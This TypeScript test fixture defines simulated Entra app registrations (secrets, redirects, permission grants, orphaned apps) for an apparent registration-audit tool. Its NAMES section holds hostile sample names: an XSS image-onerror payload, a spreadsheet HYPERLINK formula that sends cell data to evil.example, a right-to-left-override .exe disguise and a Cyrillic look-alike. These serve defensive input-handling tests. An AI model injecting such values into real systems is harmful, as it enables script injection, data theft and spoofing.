import { guidOf } from './guid'
import { CALLBACK, type Story } from './story'

const SIGN_IN = 'openid profile email offline_access User.Read'
const OUTLOOK =
  'User.Read Mail.Read Mail.Read.Shared Mail.ReadWrite Mail.ReadWrite.Shared Mail.Send Mail.Send.Shared MailboxSettings.ReadWrite Calendars.Read Calendars.Read.Shared Calendars.ReadWrite Calendars.ReadWrite.Shared profile openid email offline_access'
const STUDIO =
  'Calendars.Read Calendars.ReadWrite Files.Read Files.Read.All Files.ReadWrite Files.ReadWrite.All Sites.Read.All Sites.ReadWrite.All Mail.Read Mail.ReadWrite Mail.Send User.Read Mail.Read.Shared Mail.ReadWrite.Shared Mail.Send.Shared Calendars.Read.Shared Calendars.ReadWrite.Shared'
const MAILBOX_APP = { graph: { application: 'Mail.Read User.Read.All' } }

/** One that works for each connector and type that needs a registration of one's own (../shared/facts/connectors.json). */
const HEALTHY: readonly Story[] = [
  { key: 'entra-joiners', name: 'UiPath Joiners and Leavers', age: 210, secrets: [{ hint: 'Jn7', name: 'Integration Service', ends: 320 }], declares: { graph: { application: 'User.Read.All Group.Read.All Directory.Read.All RoleManagement.Read.Directory' } }, granted: 'declared', owners: ['devon', 'diego'] },
  { key: 'entra-selfservice', name: 'UiPath Entra Self-Service', age: 190, web: [CALLBACK], secrets: [{ hint: 'sS4', name: 'Connection of HR', ends: 275 }], declares: { graph: { delegated: `${SIGN_IN} User.ReadWrite User.Read.All Group.Read.All` } }, granted: 'declared', owners: ['devon'] },
  { key: 'entra-nightly', name: 'UiPath Nightly Directory Sync', age: 400, certificates: [{ name: 'CN=directory-sync.contoso.com', ends: 340, thumbprint: 'base64' }], declares: { graph: { application: 'User.Read.All Group.Read.All Directory.Read.All' } }, granted: 'declared', owners: ['devon', 'chidi'] },
  { key: 'outlook-cert', name: 'UiPath Invoice Mailbox (certificate)', age: 330, certificates: [{ name: 'CN=invoice-robot.contoso.com', ends: 210, thumbprint: 'hex' }], declares: MAILBOX_APP, granted: 'declared', owners: ['devon'] },
  { key: 'outlook-credentials', name: 'UiPath Accounts Payable Mailbox', age: 120, secrets: [{ hint: 'aP8', name: 'Integration Service', ends: 245 }], declares: { graph: { application: 'Mail.Read Mail.ReadWrite Mail.Send User.Read.All' } }, granted: 'declared', owners: ['devon', 'pradeep'] },
  { key: 'outlook-own', name: 'UiPath Travel Desk', age: 95, web: [CALLBACK], secrets: [{ hint: 'tR4', name: 'Travel desk connection', ends: 270 }], declares: { graph: { delegated: `${OUTLOOK} User.Read.All` } }, granted: 'declared', owners: ['devon'] },
  { key: 'm365-own', name: 'UiPath Microsoft 365 Connection', age: 160, web: [CALLBACK], secrets: [{ hint: 'm3X', name: 'Integration Service', ends: 205 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['devon'] },
  { key: 'studio-custom', name: 'Office365App', age: 510, publicClient: ['https://login.microsoftonline.com/common/oauth2/nativeclient', 'http://localhost'], fallbackPublic: true, declares: { graph: { delegated: STUDIO } }, granted: 'declared', owners: ['devon'] },
]

/** Credentials that fail, or are about to. */
const CREDENTIALS: readonly Story[] = [
  { key: 'secret-expired', name: 'Accounts Receivable Reminders', age: 420, secrets: [{ hint: 'xP1', name: 'First secret', ends: -12 }], declares: MAILBOX_APP, granted: 'declared', owners: ['pradeep'] },
  { key: 'secret-expiring', name: 'Payroll Mail Export', age: 355, secrets: [{ hint: 'pY9', name: 'Payroll robot', ends: 9 }], declares: MAILBOX_APP, granted: 'declared', owners: ['zoe'] },
  { key: 'secret-id', name: 'Helpdesk Ticket Mailer', age: 60, secrets: [{ hint: '4f2', name: 'Value lost, only the Secret ID was noted', ends: 300, keyId: '4f2c81d7-6e0b-4b0e-9c55-0d7c2f3b9a11' }], declares: MAILBOX_APP, granted: 'declared', owners: ['alex'] },
  { key: 'secret-none', name: 'Contract Archive Reader', age: 30, declares: MAILBOX_APP, granted: 'declared', owners: ['joni'] },
  { key: 'secret-many', name: 'Warehouse Stock Alerts', age: 900, secrets: [{ hint: 'wA1', ends: -400, name: '2022' }, { hint: 'wB2', ends: -35, name: '2024' }, { hint: 'wC3', ends: 4, name: 'do not delete' }, { hint: 'wD4', ends: 180, name: 'Integration Service' }, { hint: 'wD4', ends: 640, name: 'test' }], declares: MAILBOX_APP, granted: 'declared', owners: ['lee', 'devon'] },
  { key: 'secret-future', name: 'Year-End Closing Robot', age: 6, secrets: [{ hint: 'yE0', name: 'Valid from next month', starts: 25, ends: 390 }], declares: MAILBOX_APP, granted: 'declared', owners: ['uma'] },
  { key: 'secret-ancient', name: 'Scan to Mail', age: 2200, secrets: [{ hint: 'Sc4', ends: 6500 }], declares: MAILBOX_APP, granted: 'declared' },
  { key: 'cert-expired', name: 'Vendor Portal Sync', age: 780, certificates: [{ name: 'CN=vendor-sync.contoso.com', ends: -50, thumbprint: 'base64' }], declares: { graph: { application: 'User.Read.All Group.Read.All Directory.Read.All' } }, granted: 'declared', owners: ['johanna'] },
  { key: 'cert-and-secret', name: 'Quality Reports Mailer', age: 260, secrets: [{ hint: 'qR7', name: 'Fallback', ends: 90 }], certificates: [{ name: 'CN=quality.contoso.com', ends: 400, thumbprint: 'hex' }, { name: 'CN=quality-old.contoso.com', ends: 20, thumbprint: 'base64' }], declares: MAILBOX_APP, granted: 'declared', owners: ['henrietta'] },
]

/** Redirect URIs, platforms and account types. */
const SIGN_IN_SETTINGS: readonly Story[] = [
  { key: 'redirect-slash', name: 'Meeting Room Robot', age: 44, web: [`${CALLBACK}/`], secrets: [{ hint: 'mR2', ends: 200 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['devon'] },
  { key: 'redirect-backslash', name: 'Complaint Mail Triage', age: 41, web: ['https://cloud.uipath.com/provisioning\\_/callback'], secrets: [{ hint: 'cT5', ends: 200 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['devon'] },
  { key: 'redirect-spa', name: 'Shared Calendar Planner', age: 38, spa: [CALLBACK], secrets: [{ hint: 'sP6', ends: 200 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['megan'] },
  { key: 'redirect-missing', name: 'Newsletter Sender', age: 37, secrets: [{ hint: 'nL3', ends: 200 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['megan'] },
  { key: 'redirect-http', name: 'Intranet Search (old)', age: 1500, web: ['http://intranet.contoso.com/signin', 'https://intranet.contoso.com/signin'], secrets: [{ hint: 'iS8', ends: 33 }], declares: { graph: { delegated: 'User.Read Sites.Read.All' } }, granted: 'declared' },
  { key: 'redirect-suite', name: 'UiPath on-premises Suite', age: 150, web: ['https://automation.contoso.com/provisioning_/callback'], secrets: [{ hint: 'oP5', ends: 150 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['devon'] },
  { key: 'implicit', name: 'Visitor Registration Kiosk', age: 1300, web: ['https://visitors.contoso.com/'], implicit: { accessTokens: true, idTokens: true }, declares: { graph: { delegated: 'openid profile User.Read' } }, granted: 'declared', owners: ['lynne'] },
  { key: 'single-tenant', name: 'Expense Approvals', age: 70, web: [CALLBACK], secrets: [{ hint: 'eX2', name: 'Used with tenant “common” by mistake', ends: 230 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['uma'] },
  { key: 'multi-tenant', name: 'Contoso Partner Portal', age: 640, audience: 'AzureADMultipleOrgs', web: ['https://partners.contoso.com/auth', CALLBACK], secrets: [{ hint: 'pP1', ends: 280 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['miriam'], verifiedPublisher: 'Contoso Ltd.' },
  { key: 'personal', name: 'Contoso Loyalty Club', age: 800, audience: 'AzureADandPersonalMicrosoftAccount', web: ['https://club.contoso.com/auth'], declares: { graph: { delegated: 'openid profile email User.Read' } }, granted: 'declared', owners: ['miriam'] },
  { key: 'public-with-secret', name: 'Field Service Tablet', age: 500, publicClient: ['msal5f0f://auth'], fallbackPublic: true, secrets: [{ hint: 'fS6', name: 'A public client cannot use it', ends: 70 }], declares: { graph: { delegated: 'User.Read Files.ReadWrite' } }, granted: 'declared', owners: ['nestor'] },
]

/** The enterprise application's side. */
const ENTERPRISE: readonly Story[] = [
  { key: 'no-enterprise', name: 'Supplier Onboarding', age: 2, secrets: [{ hint: 'sO1', ends: 363 }], declares: MAILBOX_APP, owners: ['devon'], enterprise: false },
  { key: 'no-enterprise-delegated', name: 'Legal Hold Notices', age: 3, web: [CALLBACK], secrets: [{ hint: 'lH2', ends: 362 }], declares: { graph: { delegated: OUTLOOK } }, owners: ['joni'], enterprise: false },
  { key: 'disabled', name: 'Fleet Tracker', age: 620, secrets: [{ hint: 'fT9', ends: 110 }], declares: MAILBOX_APP, granted: 'declared', owners: ['lee'], enterprise: { disabled: true } },
  { key: 'assignment-required', name: 'Board Papers Distribution', age: 240, web: [CALLBACK], secrets: [{ hint: 'bP3', ends: 115 }], declares: { graph: { delegated: OUTLOOK } }, granted: 'declared', owners: ['ada'], enterprise: { assignmentRequired: true } },
  { key: 'renamed', name: 'Customer Satisfaction Survey', age: 310, secrets: [{ hint: 'cS2', ends: 90 }], declares: MAILBOX_APP, granted: 'declared', owners: ['isaiah'], enterprise: { name: 'Survey Robot (renamed in the portal)' } },
]

/** Permissions: declared, granted, and what lies between. */
const PERMISSIONS: readonly Story[] = [
  { key: 'nothing-declared', name: 'Proof of Concept 7', age: 14, web: [CALLBACK], secrets: [{ hint: 'pC7', ends: 166 }], owners: ['devon'] },
  { key: 'not-granted', name: 'Order Confirmation Mailer', age: 1, web: [CALLBACK], secrets: [{ hint: 'oC4', ends: 364 }], declares: { graph: { delegated: OUTLOOK, application: 'Mail.Read User.Read.All' } }, owners: ['devon'] },
  { key: 'partly-granted', name: 'Claims Intake', age: 25, web: [CALLBACK], secrets: [{ hint: 'cI8', ends: 155 }], declares: { graph: { delegated: 'openid profile email offline_access User.Read Mail.Read Mail.ReadWrite Mail.Send', application: 'Mail.Read User.Read.All' } }, granted: { graph: { delegated: 'User.Read Mail.ReadWrite', application: 'User.Read.All' } }, owners: ['devon'] },
  { key: 'hidden-grants', name: 'Board Room Booking', age: 1100, secrets: [{ hint: 'bB1', ends: 60 }], declares: { graph: { delegated: 'User.Read' } }, granted: { graph: { delegated: 'User.Read Mail.ReadWrite Files.ReadWrite.All Directory.Read.All', application: 'Mail.Send Sites.FullControl.All' } }, owners: ['nestor'], notes: 'Declared permissions were removed in 2023; nobody removed the grants.' },
  { key: 'delegated-for-app', name: 'Customer Feedback Reader', age: 19, secrets: [{ hint: 'fB6', ends: 161 }], declares: { graph: { delegated: 'Mail.Read User.Read User.Read.All' } }, granted: 'declared', owners: ['isaiah'] },
  { key: 'app-for-delegated', name: 'Team Calendar Helper', age: 17, web: [CALLBACK], secrets: [{ hint: 'tC9', ends: 163 }], declares: { graph: { delegated: 'User.Read', application: 'Calendars.Read Mail.Read' } }, granted: 'declared', owners: ['megan'] },
  { key: 'user-leftovers', name: 'Meeting Minutes Assistant', age: 700, web: ['https://minutes.contoso.com/auth'], secrets: [{ hint: 'mM4', ends: 45 }], declares: { graph: { delegated: 'User.Read Calendars.Read' } }, userGrants: [{ user: 'alex', scope: 'User.Read Calendars.Read Mail.Read' }, { user: 'megan', scope: 'User.Read Calendars.Read' }, { user: 'lynne', scope: 'User.Read Mail.ReadWrite offline_access' }, { user: 'raul', scope: 'User.Read Calendars.Read' }, { user: 'left-in-2024', scope: 'User.Read Mail.Read Files.ReadWrite' }], owners: ['alex'] },
  { key: 'stray-spaces', name: 'Sales Inbox Classifier', age: 1800, web: [CALLBACK], secrets: [{ hint: 'sI3', ends: 75 }], declares: { graph: { delegated: 'User.Read Mail.Read' } }, granted: 'declared', scopeText: ' Mail.Read  User.Read ', userGrants: [{ user: 'isaiah', scope: 'Mail.Read Mail.Send' }], owners: ['isaiah'] },
  { key: 'missing-resource', name: 'Legacy Ticketing Bridge', age: 1600, secrets: [{ hint: 'lT2', ends: 20 }], declares: { graph: { application: 'User.Read.All' } }, declaresRaw: [{ resourceAppId: guidOf('appId:deleted-ticketing-api'), id: guidOf('scope:Tickets.Read'), type: 'Scope' }], granted: { graph: { application: 'User.Read.All' } }, orphanGrant: 'Tickets.Read', owners: ['johanna'] },
  { key: 'unknown-permission', name: 'Lab Results Notifier', age: 130, secrets: [{ hint: 'lR5', ends: 140 }], declares: MAILBOX_APP, declaresRaw: [{ resourceAppId: '00000003-0000-0000-c000-000000000000', id: 'dead0000-4a7e-4f4e-8f00-000000000000', type: 'Scope' }], granted: { graph: { application: 'Mail.Read User.Read.All' } }, owners: ['henrietta'] },
  { key: 'disabled-permission', name: 'Old Web Shop', age: 1400, secrets: [{ hint: 'oW1', ends: 30 }], declares: { orders: { delegated: 'Orders.Read Orders.Legacy' } }, granted: { orders: { delegated: 'Orders.Read' } }, owners: ['lidia'] },
  { key: 'ews-twin', name: 'Room Display Panels', age: 950, publicClient: ['http://localhost'], declares: { exchange: { delegated: 'EWS.AccessAsUser.All' }, graph: { delegated: 'EWS.AccessAsUser.All User.Read' } }, granted: { exchange: { delegated: 'EWS.AccessAsUser.All' } }, owners: ['nestor'] },
  { key: 'ews-full', name: 'Archive Journal Export', age: 1250, certificates: [{ name: 'CN=journal.contoso.com', ends: 65, thumbprint: 'base64' }], declares: { exchange: { application: 'full_access_as_app' } }, granted: 'declared', owners: ['chidi'] },
  { key: 'sharepoint-full', name: 'Document Retention Sweep', age: 860, certificates: [{ name: 'CN=retention.contoso.com', ends: 130, thumbprint: 'hex' }], declares: { sharepoint: { application: 'Sites.FullControl.All' }, graph: { application: 'Sites.Selected' } }, granted: 'declared', owners: ['raul'] },
  { key: 'takeover', name: 'Legacy Provisioning Engine', age: 2600, secrets: [{ hint: 'gA0', name: 'prod', ends: 1200 }], declares: { graph: { application: 'RoleManagement.ReadWrite.Directory AppRoleAssignment.ReadWrite.All Application.ReadWrite.All Directory.ReadWrite.All UserAuthenticationMethod.ReadWrite.All' } }, granted: 'declared', notes: 'Nobody knows who runs this.' },
  { key: 'owned-by-nobody', name: 'Print Queue Watcher', age: 1900, secrets: [{ hint: 'pQ6', ends: 15 }], declares: { graph: { application: 'Directory.Read.All' } }, granted: 'declared' },
  { key: 'orders-api', name: 'Contoso Orders API', age: 720, owners: ['lidia', 'johanna'] },
  { key: 'orders-client', name: 'Order Desk Robot', age: 200, secrets: [{ hint: 'oD7', ends: 165 }], declares: { orders: { delegated: 'Orders.Read', application: 'Orders.Read.All Orders.Write.All' }, graph: { delegated: 'User.Read' } }, granted: { orders: { application: 'Orders.Read.All' }, graph: { delegated: 'User.Read' } }, owners: ['devon', 'lidia'] },
]

/** Names: twins, look-alikes and hostile ones. Everything read from Graph is text, whatever it looks like. */
const NAMES: readonly Story[] = [
  { key: 'twin-a', name: 'Mailbox Reader', age: 88, secrets: [{ hint: 'mB1', ends: 92 }], declares: MAILBOX_APP, granted: 'declared', owners: ['devon'] },
  { key: 'twin-b', name: 'Mailbox Reader', age: 12, secrets: [{ hint: 'mB2', ends: 168 }], declares: MAILBOX_APP, owners: ['alex'] },
  { key: 'look-alike', name: 'Mаilbox Reader', age: 5, secrets: [{ hint: 'mB3', ends: 175 }], declares: { graph: { delegated: 'Mail.ReadWrite Mail.Send offline_access' } }, owners: ['alex'], notes: 'The second letter is Cyrillic.' },
  { key: 'markup', name: '<img src=x onerror=alert(1)> Status Page', age: 21, declares: { graph: { delegated: 'User.Read' } }, owners: ['henrietta'] },
  { key: 'formula', name: '=HYPERLINK("https://evil.example/?"&A1;"Quarterly report")', age: 22, declares: { graph: { delegated: 'User.Read' } }, owners: ['henrietta'] },
  { key: 'bidi', name: 'Payroll \u202Efdp.exe', age: 23, declares: { graph: { delegated: 'User.Read Files.Read.All' } }, owners: ['henrietta'] },
  { key: 'long', name: `Reconciliation ${'of the intercompany clearing accounts '.repeat(7)}`.slice(0, 256), age: 24, declares: { graph: { delegated: 'User.Read' } }, owners: ['zoe'] },
  { key: 'unnamed', name: '', age: 27, declares: { graph: { delegated: 'User.Read' } } },
  { key: 'french', name: 'Rapprochement bancaire — été', age: 48, secrets: [{ hint: 'rB2', ends: 132 }], declares: MAILBOX_APP, granted: 'declared', owners: ['zoe'] },
]

/** Registrations on whose reads Graph fails first: see graph/faults.ts. */
const FAULTS: readonly Story[] = [
  { key: 'throttled', name: 'Busy Queue (answers 429 twice)', age: 33, secrets: [{ hint: 'bQ4', ends: 147 }], declares: MAILBOX_APP, granted: 'declared', owners: ['devon'] },
  { key: 'unavailable', name: 'Flaky Replica (answers 503 once)', age: 34, secrets: [{ hint: 'fR4', ends: 146 }], declares: MAILBOX_APP, granted: 'declared', owners: ['devon'] },
]

export const STORIES: readonly Story[] = [
  ...HEALTHY,
  ...CREDENTIALS,
  ...SIGN_IN_SETTINGS,
  ...ENTERPRISE,
  ...PERMISSIONS,
  ...NAMES,
  ...FAULTS,
]
